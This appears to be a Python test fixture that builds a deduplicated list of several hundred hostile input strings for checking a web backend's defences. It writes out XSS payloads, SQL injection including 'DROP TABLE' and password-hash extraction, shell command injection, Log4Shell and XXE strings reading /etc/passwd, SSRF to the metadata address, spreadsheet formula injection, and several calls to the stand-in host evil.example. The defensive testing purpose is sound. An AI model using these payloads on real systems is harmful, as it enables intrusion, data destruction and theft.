"""Six hundred and more texts that somebody could type to do harm, made of parts: each kind in many ways.

STRINGS     all of them, each once; every one that would run something sets `window.ran`
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

from tests.backend.openapi.hostile.letters import letters, places, sizes_and_kinds

RUN = "window.ran=1"
EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart")
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "marquee",
    "x tabindex=0",
)
BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "</template>", "]]>")


def _markup() -> Iterator[str]:
    for out, (tag, event) in product(BREAKS, zip(TAGS, EVENTS, strict=False)):
        yield f"{out}<{tag} {event}={RUN}>"
    for out in BREAKS:
        yield f"{out}<script>{RUN}</script>"
        yield f"{out}<script src=//evil.example/x.js></script>"
    yield from (
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"<script/x>{RUN}</script>",
        f"<script\n>{RUN}</script >",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x>",
        f"<math><mtext></p><script>{RUN}</script>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f"<form action=javascript:{RUN}><button>Send</button></form>",
        f"<button formaction=javascript:{RUN}>Send",
        f"<object data=javascript:{RUN}></object>",
        f"<embed src=javascript:{RUN}>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{display:none}</style>",
        "<p style='position:fixed;inset:0;background:white'>",
        "<input name=password type=password>",
        "<form action=//evil.example method=post>",
        "<textarea>",
        "<!--",
        "<![CDATA[",
        "<?xml version='1.0'?>",
        "<plaintext>",
        "<template><img src=x onerror=window.ran=1></template>",
        "<div data-go=next hx-get=/sign-out hx-trigger=load>",
        "<a hx-on:click=window.ran=1>x</a>",
        '<div hx-post=/people hx-trigger=load hx-vals=\'{"name":"x"}\'>',
        "<meta name=htmx-config content='{\"allowEval\":true}'>",
    )


def _attributes() -> Iterator[str]:
    for quote_, event in product(('"', "'", "`", ""), EVENTS):
        yield f"{quote_} {event}={RUN} x={quote_}"
        yield f"x{quote_}/{event}={RUN}//"
    for event in EVENTS:
        yield f"&quot; {event}=&quot;{RUN}"
        yield f"&#34;&#62;&#60;img src=x {event}={RUN}&#62;"
        yield f"\\x3cimg src=x {event}={RUN}\\x3e"
        yield f"\\u003cimg src=x {event}={RUN}\\u003e"
        yield quote(f"<img src=x {event}={RUN}>")


def _addresses() -> Iterator[str]:
    code = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
    yield from (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"\x01javascript:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript://%0a{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"data:text/html;base64,{code}",
        f"data:image/svg+xml,<svg onload={RUN}>",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "https:evil.example",
        "https://foursight@evil.example/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]:5432/",
        "http://localhost:8000/sign-out",
        "/sign-out",
        "/sign-in?next=//evil.example",
        "tel:999",
        "mailto:x@example.org?cc=y",
    )


def _templates_and_programs() -> Iterator[str]:
    for out, what in product(
        ("{{%s}}", "{%% %s %%}", "${%s}", "#{%s}", "<%%= %s %%>", "[[%s]]", "{%s}", "%%(%s)s", "{!%s!}"),
        ("7*7", "config", "self.__init__.__globals__", "request.application", "''.__class__.__mro__", "cycler"),
    ):
        yield out % what
    yield from (
        "{name}",
        "{0.__class__}",
        "%s%n%x%p",
        "%d" * 40,
        "{{constructor.constructor('window.ran=1')()}}",
        "__import__('os').system('id')",
        "; id #",
        "| id",
        "&& id",
        "`id`",
        "$(id)",
        "() { :;}; echo x",
        "!!python/object/apply:os.system ['id']",
        "cos\nsystem\n(S'id'\ntR.",
        "rO0ABXNyABFqYXZhLnV0aWw=",
        "${jndi:ldap://evil.example/x}",
        "*)(uid=*))(|(uid=*",
        "' or '1'='1' or ''='",
        "//user[name/text()='' or '1'='1']",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "<!ENTITY lol '&lol;&lol;'>",
    )


def _queries() -> Iterator[str]:
    for quote_, rest in product(
        ("'", '"', "`", "')", "'))", "\\'", "%27", "\u02bc", "1"),
        (
            " OR 1=1--",
            " OR '1'='1",
            "; DROP TABLE person;--",
            " UNION SELECT password_hash FROM person--",
            " AND (SELECT pg_sleep(9)) IS NULL--",
            "||(SELECT sqlite_version())||",
            "/**/OR/**/1=1#",
        ),
    ):
        yield quote_ + rest
    yield from (
        "%",
        "_",
        "%%%",
        "\\",
        "\\\\",
        "[a-z]",
        "?",
        ":x",
        "@@version",
        "NULL",
        "1e309",
        "0x1F",
        "$1",
        "E'\\x00'",
    )


def _cells_and_headers() -> Iterator[str]:
    for begins in ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", '"='):
        yield f"{begins}1+1"
        yield f'{begins}HYPERLINK("//evil.example","x")'
        yield f"{begins}cmd|' /C calc'!A0"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"):
        yield f"x{end}Set-Cookie: foursight=x"
        yield f"x{end}{end}<script>{RUN}</script>"
        yield f"x{end}" + '{"event": "signed_in", "level": "info"}'
    yield from (
        "name,sign_in_name,unit,roles",
        'a","b',
        "a;b",
        "a\tb",
        '"',
        '""',
        '"\n"',
        "x: y",
        ": ",
        "\\r\\n",
        "%00",
    )


STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        one
        for kind in (
            _markup,
            _attributes,
            _addresses,
            _templates_and_programs,
            _queries,
            _cells_and_headers,
            places,
            letters,
            sizes_and_kinds,
        )
        for one in kind()
    )
)
